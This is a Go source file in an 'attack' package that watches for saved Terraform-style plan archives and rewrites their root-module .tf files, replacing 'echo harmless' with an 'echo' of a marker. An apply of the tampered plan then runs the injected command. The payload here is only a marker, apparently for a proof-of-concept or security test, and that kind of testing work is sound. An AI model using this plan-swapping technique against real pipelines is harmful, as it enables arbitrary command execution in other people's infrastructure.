//go:build linux

package attack

import (
	"archive/zip"
	"bytes"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"time"
)

// swap waits for the plan file and puts a command into the configuration that an
// apply of it will run. job is the job's directory as far as it is known.
func swap(mark, job string) {
	for end := time.Now().Add(lasts); time.Now().Before(end); time.Sleep(time.Millisecond) { // between looks
		for _, pattern := range []string{"*plan*", "../*plan*", "../../*plan*", "../../../*plan*", job + "/*plan*", os.TempDir() + "/*plan*", os.TempDir() + "/*/*plan*"} {
			found, _ := filepath.Glob(pattern) // one that is malformed finds nothing
			for _, name := range found {
				if content, err := os.ReadFile(name); err == nil && bytes.HasPrefix(content, []byte("PK")) {
					if changed, err := withCommand(content, mark); err == nil {
						_ = os.WriteFile(name, changed, 0o600)
					}
				}
			}
		}
	}
}

// withCommand is a plan file whose root module runs a command more.
func withCommand(content []byte, mark string) ([]byte, error) {
	in, err := zip.NewReader(bytes.NewReader(content), int64(len(content)))
	if err != nil {
		return nil, err
	}
	var b bytes.Buffer
	out := zip.NewWriter(&b)
	for _, f := range in.File {
		r, err := f.Open()
		if err != nil {
			return nil, err
		}
		text, err := io.ReadAll(r)
		if err != nil {
			return nil, err
		}
		if strings.HasPrefix(f.Name, "tfconfig/m-/") && strings.HasSuffix(f.Name, ".tf") {
			text = bytes.ReplaceAll(text, []byte("echo harmless"), fmt.Appendf(nil, "echo %s", mark))
		}
		w, err := out.Create(f.Name)
		if err != nil {
			return nil, err
		}
		if _, err := w.Write(text); err != nil {
			return nil, err
		}
	}
	err = out.Close()
	return b.Bytes(), err
}
